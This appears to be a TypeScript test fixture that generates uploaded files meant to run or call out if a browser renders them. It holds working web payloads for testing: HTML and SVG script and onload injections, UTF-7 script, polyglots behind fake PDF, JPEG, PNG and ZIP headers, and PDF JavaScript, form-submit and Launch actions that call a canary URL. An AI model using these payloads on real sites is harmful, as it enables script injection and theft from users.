import { makePdf } from '../../fixtures/files/pdf.ts'
import { jpeg, segment } from '../../fixtures/files/images.ts'
import type { Sample } from '../../fixtures/files/sample.ts'

/** Contents that run, or call out, when a browser takes them for more than a file to save. */
export function makeStoredScripts(canary: string, count: number): Sample[] {
  const contents = contentsFor(canary)
  return Array.from({ length: count }, (_, rank) => {
    const extension = extensions[rank % extensions.length] ?? ''
    const content = contents[Math.floor(rank / extensions.length) % contents.length] ?? ''
    const bytes = Buffer.isBuffer(content) ? content : Buffer.from(content, 'latin1')
    // No two are the same bytes, so that none can be served for another.
    return {
      name: `${String(rank)}.${extension}`,
      bytes: Buffer.concat([bytes, Buffer.from(`\n${String(rank)}`)]),
    }
  })
}

/** Those that may be deposited, and those that a name could carry all the same. */
const extensions = [
  ...['pdf', 'jpg', 'jpeg', 'png', 'doc', 'docx', 'xls', 'xlsx'],
  ...['html', 'HTM', 'svg', 'xhtml', 'xml', 'js', 'mhtml', 'shtml', 'css', 'txt', 'pdf.html'],
  'html;.pdf',
]

function contentsFor(canary: string): (string | Buffer)[] {
  const run = `window.__pwn=1;try{top.__pwn=1}catch(e){};fetch('${canary}/run')`
  const html = `<!doctype html><title>x</title><script>${run}</script><img src="${canary}/img"><meta http-equiv="refresh" content="0;url=${canary}/refresh">`
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run.replaceAll('"', '&quot;')}"><script>${run}</script><image href="${canary}/svg"/></svg>`
  return [
    html,
    svg,
    `<?xml version="1.0"?>${svg}`,
    `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${run}</script></body></html>`,
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary}/xsl"?><a/>`,
    `%PDF-1.7\n${html}`,
    `\xff\xd8\xff\xe0${html}`,
    `\x89PNG\r\n\x1a\n${html}`,
    `GIF89a=1;${run}//${html}`,
    `PK\x03\x04${html}`,
    `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${html}`,
    run,
    `\xef\xbb\xbf${html}`,
    Buffer.from(`\ufeff${html}`, 'utf16le'),
    `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b--`,
    `@import "${canary}/css";*{background:url(${canary}/css2)}`,
    makePdf({
      catalog: `/OpenAction << /S /JavaScript /JS (app.alert(1);this.submitForm('${canary}/pdf')) >>`,
    }),
    makePdf({ catalog: `/OpenAction << /S /URI /URI (${canary}/uri) >>` }),
    makePdf({ catalog: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${canary}/form) >> >>` }),
    makePdf({ page: `/AA << /O << /S /Launch /F (${canary}/launch) >> >>` }),
    Buffer.concat([makePdf(), Buffer.from(html)]),
    jpeg({ segments: [segment(0xfe, html)] }),
    jpeg({ segments: [segment(0xe1, `Exif\0\0${html}`)] }),
    ' '.repeat(2_000) + html,
  ]
}
